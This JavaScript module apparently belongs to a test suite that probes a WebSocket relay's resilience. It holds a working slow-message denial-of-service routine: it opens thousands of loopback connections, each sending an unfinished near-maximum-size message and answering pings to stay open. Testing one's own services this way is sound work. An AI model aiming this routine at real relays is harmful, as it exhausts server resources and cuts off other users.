import { setTimeout as wait } from 'node:timers/promises';
import { createKey, openSocket } from '../relayClients.mjs';

const addresses = ['127.0.0.2', '127.0.0.3'];
const socketsEach = 1_000;
const opensMax = 4_000;
const workersEach = 16;
/** One byte less than the relay's largest message, and the largest size of an earlier version. */
const fragments = [262_143, 1_048_000];

/** H3: on each socket the start of a message that never ends; pings are answered, so that the socket stays open. */
export async function attack({ relayUrl, seconds }) {
  const untilMs = Date.now() + seconds * 1_000;
  const counts = { opened: 0, refused: 0, ended: 0 };
  const open = new Set();
  const start = async (localAddress) => {
    const socket = await openSocket(relayUrl, {
      key: createKey(),
      localAddress,
      onEnd: () => {
        counts.ended += 1;
        open.delete(socket);
      },
    });
    if (socket === undefined) {
      counts.refused += 1;
      return wait(20);
    }
    counts.opened += 1;
    open.add(socket);
    socket.send('x'.repeat(fragments[counts.opened % fragments.length]), { fin: false });
  };
  const work = async (localAddress) => {
    while (Date.now() < untilMs) {
      const isFull = open.size >= socketsEach * addresses.length || counts.opened + counts.refused >= opensMax;
      await (isFull ? wait(100) : start(localAddress));
    }
  };
  const workers = addresses.flatMap((address) => Array.from({ length: workersEach }, () => work(address)));
  await Promise.all(workers);
  const held = open.size;
  for (const socket of open) socket.terminate();
  return { ...counts, held };
}
